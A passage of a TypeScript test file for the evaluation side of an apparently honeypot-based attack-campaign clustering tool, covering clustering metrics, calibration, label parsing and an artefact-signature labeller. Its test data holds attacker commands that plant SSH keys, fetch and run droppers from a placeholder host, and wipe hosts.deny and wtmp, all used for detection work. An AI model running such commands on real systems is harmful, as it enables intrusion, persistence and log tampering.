/**
 * The evaluation side: clustering metrics (against brute-force pair enumeration and textbook
 * ARI values), calibration, labels and Result parsing, evaluate(), the artefact-signature
 * labeller (rules and independence from the engine), the TF-IDF + DBSCAN baseline (against a
 * naive dense implementation), and, when ../shared/corpora is present, the labeller and the
 * eval path on real corpora.
 */
import { afterAll, beforeAll, describe, expect, test } from "bun:test"
import { existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs"
import { tmpdir } from "node:os"
import { join, resolve } from "node:path"
import { Prng } from "../../src/analytics/Prng.ts"
import type { AttackSession } from "../../src/domain/AttackSession.ts"
import type { Campaign } from "../../src/domain/Campaign.ts"
import type { Result } from "../../src/domain/Result.ts"
import { calibration } from "../../src/evaluation/calibration.ts"
import { type ClusterKey, pairCounts, pairwiseScores } from "../../src/evaluation/clusteringMetrics.ts"
import { evaluateCorpus, labelCorpus } from "../../src/evaluation/corpusEvaluation.ts"
import { formatEvalReport, runEval } from "../../src/evaluation/evalCommand.ts"
import { evaluate, evaluatePrediction, isTrulyCoordinated, predictionFromKeys } from "../../src/evaluation/evaluate.ts"
import {
  EvalInputError,
  formatLabelsTsv,
  type Labels,
  parseLabelsTsv,
  parseResult,
  predictionFromResult
} from "../../src/evaluation/labels.ts"
import { derivesFromUsername, isPopularCredential } from "../../src/evaluation/popularCredentials.ts"
import { auditFamilies } from "../../src/evaluation/sharedArtefacts.ts"
import {
  busyboxTagsIn,
  markerFilesIn,
  plantedKeys,
  rareCredentials,
  signatureLabels,
  sshKeysIn
} from "../../src/evaluation/signatureLabels.ts"
import { dbscan, NOISE, tfidfDbscan, tokenize } from "../../src/evaluation/tfidfDbscan.ts"

// ---------------------------------------------------------------------------------------
// helpers

/** Brute force over all pairs: the definitions, without the contingency table. */
const bruteForce = (truth: ReadonlyArray<ClusterKey>, pred: ReadonlyArray<ClusterKey>) => {
  let a = 0 // together in both
  let b = 0 // together in truth only
  let c = 0 // together in prediction only
  let d = 0 // apart in both
  for (let i = 0; i < truth.length; i++) {
    for (let j = i + 1; j < truth.length; j++) {
      const t = truth[i] !== null && truth[i] === truth[j]
      const p = pred[i] !== null && pred[i] === pred[j]
      if (t && p) a++
      else if (t) b++
      else if (p) c++
      else d++
    }
  }
  const precision = a + c === 0 ? 1 : a / (a + c)
  const recall = a + b === 0 ? 1 : a / (a + b)
  const f1 = precision + recall === 0 ? 0 : (2 * precision * recall) / (precision + recall)
  // ARI from the pair confusion matrix (scikit-learn's form), an algebraically independent route.
  const ari = b === 0 && c === 0 ? 1 : (2 * (a * d - b * c)) / ((a + b) * (b + d) + (a + c) * (c + d))
  return { a, b, c, d, precision, recall, f1, ari }
}

const randomLabeling = (rng: Prng, n: number, k: number, nullShare: number): Array<ClusterKey> =>
  Array.from({ length: n }, () => (rng.next() < nullShare ? null : `k${rng.int(k)}`))

const session = (id: string, over: Partial<AttackSession> = {}): AttackSession => ({
  id,
  sensor: null,
  protocol: "ssh",
  src_ip: null,
  src_port: null,
  dst_ip: null,
  dst_port: null,
  start: "2024-01-01T00:00:00.000Z",
  end: "2024-01-01T00:00:01.000Z",
  client_version: null,
  hassh: null,
  credentials: [],
  commands: [],
  downloads: [],
  uploads: [],
  ssh_keys_added: [],
  tcpip_forwards: [],
  http_requests: [],
  user_agent: null,
  event_count: 1,
  ...over
})

const cred = (username: string, password: string) => ({ username, password, success: false })

const campaign = (id: string, level: Campaign["level"], sessions: Array<string>, confidence: number, parent: string | null = null): Campaign => ({
  id,
  parent_id: parent,
  level,
  name: id,
  sessions,
  source_ips: [],
  first_seen: "2024-01-01T00:00:00.000Z",
  last_seen: "2024-01-01T00:00:00.000Z",
  confidence,
  confidence_interval: [confidence, confidence],
  assessment: "coincidental",
  evidence: {},
  indicators: [],
  ttps: []
})

const resultWith = (campaigns: Array<Campaign>): Result => ({
  schema: "dshield-coordination/result@1",
  run: {
    id: "run-test",
    engine_version: "0.0.0-test",
    input_digest: "d",
    config_digest: "c",
    seed: 42,
    started_at: "2024-01-01T00:00:00.000Z",
    finished_at: "2024-01-01T00:00:00.000Z"
  },
  input: { files: [], events: 0, sessions: 0, rejected: {} },
  campaigns,
  unclustered_sessions: 0
})

const KEY_A = "AAAAB3NzaC1yc2EAAAADAQABAAABAQC7exampleexampleexampleexampleexampleexampleEXAMPLE0123456789+/abc"
const KEY_B = "AAAAC3NzaC1lZDI1NTE5AAAAIOtherOtherOtherOtherOtherOtherOtherOtherOther0123"
const plant = (key: string, comment: string): string =>
  `cd ~ && rm -rf .ssh && mkdir .ssh && echo "ssh-rsa ${key} ${comment}">>.ssh/authorized_keys && chmod -R go= ~/.ssh`

// ---------------------------------------------------------------------------------------

describe("clustering metrics", () => {
  test("match brute-force pair enumeration on seeded random labelings", () => {
    const rng = new Prng(20240601, "evaluation:metrics")
    for (let round = 0; round < 400; round++) {
      const n = rng.int(40)
      const truth = randomLabeling(rng, n, 1 + rng.int(6), rng.next() * 0.5)
      const pred = randomLabeling(rng, n, 1 + rng.int(6), rng.next() * 0.5)
      const fast = pairwiseScores(truth, pred)
      const slow = bruteForce(truth, pred)
      expect(fast.agreeingPairs).toBe(slow.a)
      expect(fast.truePairs).toBe(slow.a + slow.b)
      expect(fast.predictedPairs).toBe(slow.a + slow.c)
      expect(fast.allPairs).toBe(slow.a + slow.b + slow.c + slow.d)
      expect(fast.precision).toBeCloseTo(slow.precision, 12)
      expect(fast.recall).toBeCloseTo(slow.recall, 12)
      expect(fast.f1).toBeCloseTo(slow.f1, 12)
      expect(fast.ari).toBeCloseTo(slow.ari, 9)
    }
  })

  test("textbook adjusted Rand index values (scikit-learn documentation)", () => {
    const ari = (t: Array<number>, p: Array<number>): number => pairwiseScores(t.map(String), p.map(String)).ari
    expect(ari([0, 0, 1, 1], [0, 0, 1, 1])).toBeCloseTo(1, 12)
    expect(ari([0, 0, 1, 1], [1, 1, 0, 0])).toBeCloseTo(1, 12)
    expect(ari([0, 0, 1, 2], [0, 0, 1, 1])).toBeCloseTo(4 / 7, 12) // 0.57
    expect(ari([0, 0, 1, 1], [0, 0, 1, 2])).toBeCloseTo(4 / 7, 12)
    expect(ari([0, 0, 0, 0], [0, 1, 2, 3])).toBeCloseTo(0, 12)
    expect(ari([0, 0, 1, 1], [0, 1, 0, 1])).toBeCloseTo(-0.5, 12)
  })

  test("Hubert & Arabie contingency example: 3 × 3 table", () => {
    // Rows = truth, columns = prediction: [[1,1,0],[1,2,1],[0,0,4]] (Santos & Embrechts 2009 style).
    const table = [[1, 1, 0], [1, 2, 1], [0, 0, 4]]
    const truth: Array<string> = []
    const pred: Array<string> = []
    table.forEach((row, i) => row.forEach((count, j) => {
      for (let k = 0; k < count; k++) {
        truth.push(`t${i}`)
        pred.push(`p${j}`)
      }
    }))
    const s = pairwiseScores(truth, pred)
    // Σ C(n_ij,2) = 1 + 6 = 7; a = (2,4,4) → 1 + 6 + 6 = 13; b = (2,3,5) → 1 + 3 + 10 = 14; N = C(10,2) = 45.
    expect([s.agreeingPairs, s.truePairs, s.predictedPairs, s.allPairs]).toEqual([7, 13, 14, 45])
    const expected = (13 * 14) / 45
    expect(s.ari).toBeCloseTo((7 - expected) / ((13 + 14) / 2 - expected), 12)
    expect(s.precision).toBeCloseTo(7 / 14, 12)
    expect(s.recall).toBeCloseTo(7 / 13, 12)
  })

  test("degenerate cases follow the documented rules", () => {
    // No predicted pairs, some true pairs: precision 1 (vacuous), recall 0, F1 0, ARI 0.
    const a = pairwiseScores(["x", "x", "y"], [null, null, null])
    expect([a.precision, a.recall, a.f1, a.ari]).toEqual([1, 0, 0, 0])
    // No true pairs, some predicted pairs: precision 0, recall 1, F1 0.
    const b = pairwiseScores([null, "a", "b"], ["p", "p", "p"])
    expect([b.precision, b.recall, b.f1]).toEqual([0, 1, 0])
    // Neither: everything 1 (identical all-singleton partitions).
    const c = pairwiseScores(["a", "b", "c"], [null, null, null])
    expect([c.precision, c.recall, c.f1, c.ari]).toEqual([1, 1, 1, 1])
    // Both one cluster: identical, ARI 1.
    expect(pairwiseScores(["a", "a", "a"], ["p", "p", "p"]).ari).toBe(1)
    // Fewer than two items.
    expect(pairwiseScores([], []).ari).toBe(1)
    expect(pairwiseScores(["a"], ["b"]).ari).toBe(1)
    expect(() => pairwiseScores(["a"], [])).toThrow(RangeError)
  })

  test("null keys are singletons: never equal to each other", () => {
    const withNull = pairCounts(["a", "a", null, null], [null, null, "p", "p"])
    expect(withNull.truePairs).toBe(1)
    expect(withNull.predictedPairs).toBe(1)
    expect(withNull.agreeingPairs).toBe(0)
    expect(withNull.trueClusters).toBe(3)
    const fresh = pairCounts(["a", "a", "s1", "s2"], ["s3", "s4", "p", "p"])
    expect(withNull.truePairs).toBe(fresh.truePairs)
    expect(withNull.predictedPairs).toBe(fresh.predictedPairs)
    expect(withNull.agreeingPairs).toBe(fresh.agreeingPairs)
  })

  test("linear time: 300k items in well under a second", () => {
    const rng = new Prng(7, "evaluation:big")
    const truth = randomLabeling(rng, 300_000, 50, 0.2)
    const pred = randomLabeling(rng, 300_000, 80, 0.2)
    const t0 = performance.now()
    const s = pairwiseScores(truth, pred)
    expect(performance.now() - t0).toBeLessThan(1000)
    expect(Math.abs(s.ari)).toBeLessThan(0.01) // independent random labelings: chance level
  })
})

describe("calibration", () => {
  test("ECE and reliability table by hand", () => {
    const c = calibration([0.05, 0.15, 0.15, 0.95, 1.0], [false, false, true, true, true], 10)
    // bin 0: mean .05, rate 0 → .05·1/5; bin 1: mean .15, rate .5 → .35·2/5; bin 9: mean .975, rate 1 → .025·2/5.
    expect(c.ece!).toBeCloseTo(0.01 + 0.14 + 0.01, 12)
    expect(c.bins.length).toBe(10)
    expect(c.bins[0]!.count).toBe(1)
    expect(c.bins[1]!.observedRate).toBe(0.5)
    expect(c.bins[9]!.count).toBe(2) // 1.0 falls in the last bin
    expect(c.bins[9]!.meanPredicted!).toBeCloseTo(0.975, 12)
    expect(c.bins[5]!.meanPredicted).toBeNull()
    expect(c.positives).toBe(3)
  })

  test("perfect calibration gives 0, no predictions gives null, bad scores throw", () => {
    expect(calibration([0.25, 0.25, 0.25, 0.25], [true, false, false, false], 4).ece!).toBeCloseTo(0, 12)
    expect(calibration([], []).ece).toBeNull()
    expect(() => calibration([1.2], [true])).toThrow(RangeError)
    expect(() => calibration([Number.NaN], [true])).toThrow(RangeError)
    expect(() => calibration([0.5], [true], 0)).toThrow(RangeError)
  })

  test("bin count changes the table", () => {
    const c = calibration([0.1, 0.3, 0.6, 0.9], [false, false, true, true], 2)
    expect(c.bins.map((b) => b.count)).toEqual([2, 2])
    expect(c.ece!).toBeCloseTo(0.5 * 0.2 + 0.5 * 0.25, 12)
  })
})

describe("labels and results", () => {
  test("labels TSV with the five generator columns", () => {
    const l = parseLabelsTsv("session_id\tfamily\tvariant\twave\tcoordinated\ns1\tF1\tV1\tW1\t1\ns2\tF1\t-\t-\t0\ns3\t-\t-\t-\t-\n")
    expect(l.sessions.get("s1")).toEqual({ family: "F1", variant: "V1", wave: "W1", coordinated: true })
    expect(l.sessions.get("s2")).toEqual({ family: "F1", variant: null, wave: null, coordinated: false })
    expect(l.sessions.get("s3")).toEqual({ family: null, variant: null, wave: null, coordinated: null })
  })

  test("three columns, space-separated header, comments", () => {
    const l = parseLabelsTsv("# made by hand\nsession_id family variant\n\na F V\nb - -\n")
    expect(l.sessions.size).toBe(2)
    expect(l.sessions.get("a")!.family).toBe("F")
    expect(l.sessions.get("b")!.family).toBeNull()
    expect(l.sessions.get("a")!.coordinated).toBeNull()
  })

  test("errors name the line", () => {
    expect(() => parseLabelsTsv("id\tfamily\n")).toThrow(EvalInputError)
    expect(() => parseLabelsTsv("session_id\tfamily\tvariant\ns1\tF\n")).toThrow(/:2: expected 3 columns/)
    expect(() => parseLabelsTsv("session_id\tfamily\tvariant\ns1\tF\tV\ns1\tF\tV\n")).toThrow(/listed twice/)
    expect(() => parseLabelsTsv("session_id\tfamily\tvariant\twave\tcoordinated\ns1\tF\tV\tW\tmaybe\n")).toThrow(/coordinated/)
    expect(() => parseLabelsTsv("")).toThrow(/empty/)
  })

  test("formatLabelsTsv round-trips", () => {
    const rows: Array<[string, { family: string | null; variant: string | null; wave: string | null; coordinated: boolean | null }]> = [
      ["a", { family: "F", variant: "F/1", wave: null, coordinated: true }],
      ["b", { family: null, variant: null, wave: null, coordinated: null }]
    ]
    const back = parseLabelsTsv(formatLabelsTsv(rows))
    expect([...back.sessions.entries()]).toEqual(rows)
  })

  test("predicted keys: family campaign, variant campaign else family, waves ignored", () => {
    const r = resultWith([
      campaign("F", "family", ["s1", "s2", "s3"], 0.9),
      campaign("V", "variant", ["s1", "s2"], 0.8, "F"),
      campaign("W", "wave", ["s1"], 0.5, "V")
    ])
    const p = predictionFromResult(r)
    expect(p.sessions.get("s1")).toEqual({ family: "F", variant: "V" })
    expect(p.sessions.get("s3")).toEqual({ family: "F", variant: "F" })
    expect(p.sessions.has("s4")).toBe(false)
    expect(p.warnings).toEqual([])
    const twice = predictionFromResult(resultWith([campaign("F", "family", ["s1"], 0.5), campaign("G", "family", ["s1"], 0.5)]))
    expect(twice.warnings.length).toBe(1)
  })

  test("parseResult accepts Result v1 and rejects anything else", () => {
    const r = resultWith([campaign("F", "family", ["a", "b"], 0.9)])
    expect(parseResult(JSON.parse(JSON.stringify(r))).campaigns.length).toBe(1)
    expect(() => parseResult({ schema: "other" })).toThrow(EvalInputError)
    const bad = JSON.parse(JSON.stringify(r))
    bad.campaigns[0].confidence = 3
    expect(() => parseResult(bad)).toThrow(/does not match/)
  })
})

describe("evaluate", () => {
  // Truth: A = a1..a4, B = b1..b3, background x1..x3; c1 is labelled alone in family C.
  const labels: Labels = parseLabelsTsv(
    [
      "session_id\tfamily\tvariant\twave\tcoordinated",
      "a1\tA\tA1\t-\t1",
      "a2\tA\tA1\t-\t1",
      "a3\tA\tA2\t-\t1",
      "a4\tA\tA2\t-\t1",
      "b1\tB\tB1\t-\t1",
      "b2\tB\tB1\t-\t1",
      "b3\tB\tB1\t-\t1",
      "c1\tC\tC1\t-\t0",
      "x1\t-\t-\t-\t-",
      "x2\t-\t-\t-\t-",
      "x3\t-\t-\t-\t-"
    ].join("\n")
  )
  const result = resultWith([
    // Family P: all of A, one of B and a background session; variant PV = a1, a2.
    campaign("P", "family", ["a1", "a2", "a3", "a4", "b1", "x1"], 0.9),
    campaign("PV", "variant", ["a1", "a2"], 0.95, "P"),
    // Family Q: b2, b3 (correct).
    campaign("Q", "family", ["b2", "b3"], 0.7),
    // Family R: only background: a false campaign.
    campaign("R", "family", ["x2", "x3"], 0.6)
  ])

  test("pairwise metrics over labelled sessions only", () => {
    const r = evaluate(result, labels)
    expect(r.labelledSessions).toBe(8)
    expect(r.backgroundSessions).toBe(3)
    // Items in order a1..a4, b1..b3, c1.
    const truth = ["A", "A", "A", "A", "B", "B", "B", "C"]
    const familyPred = ["P", "P", "P", "P", "P", "Q", "Q", null]
    const expected = pairwiseScores(truth, familyPred)
    expect(r.family.precision).toBeCloseTo(expected.precision, 12)
    expect(r.family.recall).toBeCloseTo(expected.recall, 12)
    expect(r.family.ari).toBeCloseTo(expected.ari, 12)
    // By hand: P holds C(5,2) = 10 pairs, 6 of them within A; Q holds 1 within B. True pairs 6 + 3 = 9.
    expect(r.family.predictedPairs).toBe(11)
    expect(r.family.agreeingPairs).toBe(7)
    expect(r.family.truePairs).toBe(9)
    const variantTruth = ["A1", "A1", "A2", "A2", "B1", "B1", "B1", "C1"]
    const variantPred = ["PV", "PV", "P", "P", "P", "Q", "Q", null]
    expect(r.variant!.f1).toBeCloseTo(pairwiseScores(variantTruth, variantPred).f1, 12)
    expect(r.unclusteredShare).toBeCloseTo(1 / 8, 12)
    expect(r.falseCampaigns.count).toBe(1)
    expect(r.falseCampaigns.sessions).toBe(2)
    expect(r.predictedFamilies).toBe(3)
    expect(r.trueFamilies).toBe(3)
    expect(r.trueFamiliesWithPairs).toBe(2)
  })

  test("background sessions do not move the pairwise metrics", () => {
    const moved = resultWith([
      campaign("P", "family", ["a1", "a2", "a3", "a4", "b1", "x1", "x2", "x3"], 0.9),
      campaign("Q", "family", ["b2", "b3"], 0.7)
    ])
    const a = evaluate(result, labels)
    const b = evaluate(moved, labels)
    expect(b.family.precision).toBe(a.family.precision)
    expect(b.family.recall).toBe(a.family.recall)
    expect(b.falseCampaigns.count).toBe(0)
  })

  test("truly coordinated needs 90% of a campaign's sessions in one true family", () => {
    const many = parseLabelsTsv(
      ["session_id\tfamily\tvariant", ...Array.from({ length: 10 }, (_, i) => `s${i}\t${i < 9 ? "A" : "B"}\t-`), "u\t-\t-"].join("\n")
    )
    const ten = Array.from({ length: 10 }, (_, i) => `s${i}`)
    expect(isTrulyCoordinated(ten, many)).toBe(true) // 9 of 10
    expect(isTrulyCoordinated([...ten.slice(0, 8), "s9", "u"], many)).toBe(false) // 8 of 10
    expect(isTrulyCoordinated([...ten.slice(0, 9), "missing"], many)).toBe(true) // an unlisted session counts against
    expect(isTrulyCoordinated(["u", "missing"], many)).toBe(false)
  })

  test("calibration uses each campaign's confidence against the 90% rule", () => {
    const r = evaluate(result, labels)
    // P: 4 of 6 in A → not coordinated (0.9); PV: 2 of 2 → coordinated (0.95); Q → coordinated (0.7); R → not (0.6).
    expect(r.calibration.campaigns.count).toBe(4)
    expect(r.calibration.campaigns.positives).toBe(2)
    // Bins: [0.9, 1.0] holds P and PV (mean 0.925, rate 0.5); [0.7, 0.8) Q; [0.6, 0.7) R.
    const expected = (2 / 4) * Math.abs(0.925 - 0.5) + (1 / 4) * Math.abs(0.7 - 1) + (1 / 4) * 0.6
    expect(r.calibration.campaigns.ece!).toBeCloseTo(expected, 12)
    expect(r.ece).toBe(r.calibration.campaigns.ece)
    expect(r.calibration.families.count).toBe(3)
  })

  test("a clustering given as keys (the baseline) scores the same as the equivalent result", () => {
    const keys = new Map<string, ClusterKey>([["a1", "k"], ["a2", "k"], ["a3", "k"], ["a4", "k"], ["b1", "k"], ["x1", "k"], ["b2", "q"], ["b3", "q"], ["c1", null], ["x2", "r"], ["x3", "r"]])
    const viaKeys = evaluatePrediction(predictionFromKeys(keys), labels)
    const viaResult = evaluate(resultWith([campaign("P", "family", ["a1", "a2", "a3", "a4", "b1", "x1"], 0.5), campaign("Q", "family", ["b2", "b3"], 0.5), campaign("R", "family", ["x2", "x3"], 0.5)]), labels)
    expect(viaKeys.family).toEqual(viaResult.family)
    expect(viaKeys.falseCampaigns.count).toBe(1)
  })

  describe("runEval on files", () => {
    let dir = ""
    beforeAll(() => {
      dir = mkdtempSync(join(tmpdir(), "dshield-eval-"))
    })
    afterAll(() => {
      if (dir !== "") rmSync(dir, { recursive: true, force: true })
    })

    test("reads both files and renders the table", () => {
      writeFileSync(join(dir, "labels.tsv"), formatLabelsTsv(labels.sessions))
      writeFileSync(join(dir, "result.json"), JSON.stringify(result))
      const report = runEval({ labelsPath: join(dir, "labels.tsv"), resultPath: join(dir, "result.json") })
      expect(report.family).toEqual(evaluate(result, labels).family)
      const text = formatEvalReport(report)
      expect(text).toContain("labelled sessions only")
      expect(text).toMatch(new RegExp(`family\\s+${report.family.precision.toFixed(3)}\\s+${report.family.recall.toFixed(3)}\\s`))
      expect(text).toContain("false campaigns 1 (2 sessions)")
    })

    test("missing or malformed files are EvalInputError with one sentence", () => {
      expect(() => runEval({ labelsPath: join(dir, "nope.tsv"), resultPath: join(dir, "result.json") })).toThrow(EvalInputError)
      writeFileSync(join(dir, "broken.json"), "{not json")
      expect(() => runEval({ labelsPath: join(dir, "labels.tsv"), resultPath: join(dir, "broken.json") })).toThrow(/not valid JSON/)
    })
  })
})

describe("signature labeller: extraction rules", () => {
  test("SSH keys: type and body, comment ignored, only with authorized_keys", () => {
    expect(sshKeysIn(plant(KEY_A, "mdrfckr"))).toEqual([`ssh-rsa ${KEY_A}`])
    expect(plantedKeys([plant(KEY_A, "mdrfckr")])).toEqual(plantedKeys([plant(KEY_A, "user@host")]))
    expect(plantedKeys([`echo "ssh-rsa ${KEY_A} x" > /tmp/k`])).toEqual([])
  })

  test("marker files: fixed hidden files and dropper names, not generic, standard or random ones", () => {
    expect(markerFilesIn("echo -e '\\x47\\x72\\x6f\\x70/tmp' > /tmp/.nippon;   cat /tmp/.nippon;   rm -f /tmp/.nippon")).toEqual([".nippon"])
    expect(markerFilesIn("cd /tmp || cd /var/run; wget http://192.0.2.7/beetles.sh; chmod 777 beetles.sh; sh beetles.sh")).toEqual(["beetles.sh"])
    expect(markerFilesIn("cd /tmp; wget http://192.0.2.7/bins.sh; chmod 777 bins.sh; sh bins.sh; rm -rf x86_64")).toEqual([])
    expect(markerFilesIn("curl http://192.0.2.7:60142/linux -o /tmp/ZN5qL4gOwW; chmod +x /tmp/ZN5qL4gOwW")).toEqual([])
    expect(markerFilesIn("nohup $SHELL -c \"curl http://192.0.2.7/sora.x86 -o /tmp/a\"")).toEqual(["sora.<arch>"])
    expect(markerFilesIn("wget http://192.0.2.7/sora.arm7")).toEqual(["sora.<arch>"])
    expect(markerFilesIn("/gweerwe323f")).toEqual(["gweerwe323f"])
    expect(markerFilesIn("./oinasf; dd if=/proc/self/exe bs=22 count=1")).toEqual(["oinasf"])
    expect(markerFilesIn("echo > /etc/hosts.deny; echo 1 > /var/log/wtmp; cat /proc/cpuinfo; /bin/uname -a")).toEqual([])
    expect(markerFilesIn("nohup /root/577 &gt; /dev/null 2&gt;&amp;1 &amp;")).toEqual([])
    expect(markerFilesIn("uname -a; ls -la; cd ~; chattr -ia .ssh")).toEqual([])
  })

  test("busybox tags and echo -e markers", () => {
    expect(busyboxTagsIn("enable; system; shell; sh; /bin/busybox ECCHI")).toEqual(["busybox ECCHI"])
    expect(busyboxTagsIn("/bin/busybox wget; /bin/busybox cat /proc/cpuinfo")).toEqual([])
    expect(busyboxTagsIn("echo -e '\\x67\\x61\\x79\\x66\\x67\\x74'")).toEqual(["echo gayfgt"])
    expect(busyboxTagsIn("/bin/busybox echo -ne '\\x45\\x4c\\x46'")).toEqual([]) // ELF: generic and short
    expect(busyboxTagsIn("echo -en \"\\\\x31\\\\x33\\\\x33\\\\x37\"")).toEqual(["echo 1337"])
  })

  test("popular credentials: lists, derivations, placeholders", () => {
    expect(isPopularCredential("root", "admin")).toBe(true)
    expect(isPopularCredential("pi", "raspberry")).toBe(true)
    expect(isPopularCredential("deploy", "123456")).toBe(true) // popular password under any user
    expect(isPopularCredential("oracle", "oracle123")).toBe(true)
    expect(isPopularCredential("admin", "<Any pass>")).toBe(true)
    expect(isPopularCredential("root", "abc")).toBe(true) // too short
    expect(isPopularCredential("root", "broadguam1")).toBe(false)
    expect(derivesFromUsername("simon", "nomis")).toBe(true)
    expect(derivesFromUsername("simon", "s1m0n-x")).toBe(false)
  })

  test("rare credentials: 2 ≤ IPs ≤ max(3, 1% of login IPs), not popular, not a dictionary password", () => {
    const sessions: Array<AttackSession> = []
    let n = 0
    const add = (ip: string, u: string, p: string) => sessions.push(session(`s${n++}`, { src_ip: ip, credentials: [cred(u, p)] }))
    add("192.0.2.1", "root", "broadguam1")
    add("192.0.2.2", "root", "broadguam1") // rare: 2 IPs
    add("192.0.2.3", "root", "onlyonce99") // 1 IP
    add("192.0.2.3", "root", "onlyonce99")
    for (let i = 0; i < 4; i++) add(`198.51.100.${i}`, "root", "toomany777") // 4 IPs > 3
    for (let i = 0; i < 3; i++) add(`203.0.113.${i}`, "root", "admin") // popular
    for (const u of ["u1", "u2", "u3", "u4", "u5"]) {
      add("192.0.2.10", u, "dictpass55")
      add("192.0.2.11", u, "dictpass55") // one password under 5 user names
    }
    const r = rareCredentials(sessions)
    expect(r.maxIps).toBe(3)
    expect([...r.rare]).toEqual(["root\u0000broadguam1"])
    expect(r.tooFewIps).toBe(1)
    expect(r.tooManyIps).toBe(1)
    expect(r.dictionaryPassword).toBe(5)
  })
})

describe("signature labeller: labels", () => {
  const corpus: Array<AttackSession> = [
    // Key A from two IPs (comments differ), one of them also tries a rare credential.
    session("k1", { src_ip: "192.0.2.1", commands: [plant(KEY_A, "mdrfckr")], credentials: [cred("root", "qa7Zebra!")] }),
    session("k2", { src_ip: "192.0.2.2", commands: [plant(KEY_A, "other")] }),
    // Brute force only, with the rare credential from a third IP: same family, /cred variant.
    session("c1", { src_ip: "192.0.2.3", credentials: [cred("root", "qa7Zebra!"), cred("root", "admin")] }),
    // A different key, planted once: a value seen once is no signature.
    session("k3", { src_ip: "192.0.2.4", commands: [plant(KEY_B, "x")] }),
    // Payload shared by two sessions; the empty file is shared by everyone and never counts.
    session("p1", { src_ip: "198.51.100.1", downloads: [{ url: "http://192.0.2.9/a", sha256: "ab".repeat(32), filename: null }] }),
    session("p2", { src_ip: "198.51.100.2", downloads: [{ url: "http://192.0.2.9/b", sha256: "AB".repeat(32), filename: null }] }),
    session("e1", { src_ip: "198.51.100.3", downloads: [{ url: null, sha256: "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855", filename: "/tmp/x" }] }),
    session("e2", { src_ip: "198.51.100.4", downloads: [{ url: null, sha256: "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855", filename: "/tmp/y" }] }),
    // Marker from one IP twice: joined, but not coordinated (one IP).
    session("m1", { src_ip: "203.0.113.5", commands: ["echo 1 > /var/tmp/.var03522123"] }),
    session("m2", { src_ip: "203.0.113.5", commands: ["cat /var/tmp/.var03522123 | head -n 1", "echo 1 > /var/tmp/.var03522123"] }),
    // Popular credentials only, from many IPs: never labelled.
    ...Array.from({ length: 30 }, (_, i) => session(`b${i}`, { src_ip: `203.0.113.${100 + i}`, credentials: [cred("root", "admin"), cred("admin", "admin"), cred("pi", "raspberry")] }))
  ]
  const L = signatureLabels(corpus)
  const fam = (id: string) => L.labels.get(id)!.family
  const variant = (id: string) => L.labels.get(id)!.variant

  test("sessions sharing a signature are joined, through any kind", () => {
    expect(fam("k1")).not.toBeNull()
    expect(fam("k2")).toBe(fam("k1"))
    expect(fam("c1")).toBe(fam("k1"))
    expect(fam("p1")).not.toBeNull()
    expect(fam("p2")).toBe(fam("p1")) // sha256 compared case-insensitively
    expect(fam("p1")).not.toBe(fam("k1"))
    expect(fam("m2")).toBe(fam("m1"))
  })

  test("variants: the payload-level join; credential-only sessions form the /cred variant", () => {
    expect(variant("k1")).toBe(variant("k2"))
    expect(variant("c1")).toBe(`${fam("k1")}/cred`)
    expect(variant("k1")!.startsWith(`${fam("k1")}/`)).toBe(true)
    expect(variant("k1")).not.toBe(variant("c1"))
  })

  test("unlabelled: no signature, a value seen once, trivial payloads, popular credentials", () => {
    expect(fam("k3")).toBeNull()
    expect(fam("e1")).toBeNull()
    expect(fam("e2")).toBeNull()
    for (let i = 0; i < 30; i++) expect(fam(`b${i}`)).toBeNull()
    expect(L.stats.labelledSessions).toBe(7)
    expect(L.stats.familiesWithPairs).toBe(3)
  })

  test("coordinated: the family spans two or more source IPs", () => {
    expect(L.labels.get("k1")!.coordinated).toBe(true)
    expect(L.labels.get("m1")!.coordinated).toBe(false)
    expect(L.labels.get("b0")!.coordinated).toBeNull()
  })

  test("the labeller imports nothing from the engine's analytics or workflow", () => {
    const dir = resolve(import.meta.dir, "../../src/evaluation")
    const seen = new Set<string>()
    const visit = (file: string): void => {
      if (seen.has(file)) return
      seen.add(file)
      const text = readFileSync(file, "utf8")
      for (const m of text.matchAll(/^import[^"']*["']([^"']+)["']/gm)) {
        const spec = m[1]!
        expect(spec).not.toMatch(/analytics|workflow/)
        if (spec.startsWith("./")) visit(join(dir, spec.slice(2)))
      }
    }
    visit(join(dir, "signatureLabels.ts"))
    expect(seen.size).toBeGreaterThanOrEqual(3)
    expect(readFileSync(join(dir, "signatureLabels.ts"), "utf8")).not.toMatch(/\.ssh_keys_added/)
  })

  test("audit: families sharing only popular credentials are found", () => {
    const byId = new Map(corpus.map((s) => [s.id, s] as const))
    const a = auditFamilies([["b0", "b1", "b2"], ["k1", "k2"], ["e1", "k3"]], byId, L.rareCredentials.rare)
    expect(a.families).toBe(3)
    expect(a.popularCredentialOnly).toBe(1)
    expect(a.nothingShared).toBe(1)
  })
})

describe("TF-IDF + DBSCAN baseline", () => {
  test("DBSCAN on a hand example: cores, a border point seen first, noise", () => {
    // 1-D points; eps 0.95, min_samples 3. 1.7 has only 0.8 within eps (2 points with itself):
    // a border point of the first cluster, although it comes first in the input.
    const xs = [1.7, 0, 0.4, 0.8, 3.0, 3.4, 3.8, 10, 20, 20.5]
    const hood = (i: number) => xs.flatMap((x, j) => (Math.abs(x - xs[i]!) <= 0.95 ? [j] : []))
    expect(Array.from(dbscan(xs.length, hood, 3))).toEqual([0, 0, 0, 0, 1, 1, 1, NOISE, NOISE, NOISE])
  })

  test("DBSCAN on 2-D points and with multiplicities", () => {
    const pts = [[0, 0], [0, 1], [1, 0], [1, 1], [10, 10], [10, 11], [10, 12], [5, 5]] as const
    const hood = (i: number) =>
      pts.flatMap((p, j) => (Math.hypot(p[0] - pts[i]![0], p[1] - pts[i]![1]) <= 1.1 ? [j] : []))
    // (10,10) and (10,12) are border points of the cluster around (10,11).
    expect(Array.from(dbscan(pts.length, hood, 3))).toEqual([0, 0, 0, 0, 1, 1, 1, NOISE])
    // One point standing for three identical points is a core point on its own.
    expect(Array.from(dbscan(2, (i) => [i], 3, [3, 2]))).toEqual([0, NOISE])
  })

  test("tokens follow TfidfVectorizer's default pattern", () => {
    expect(tokenize("uname -a; cat /proc/cpuinfo | grep name | wc -l")).toEqual(["uname", "cat", "proc", "cpuinfo", "grep", "name", "wc"])
    expect(tokenize("x y z")).toEqual([])
  })

  test("sessions without commands are noise; identical command sessions cluster", () => {
    const r = tfidfDbscan([
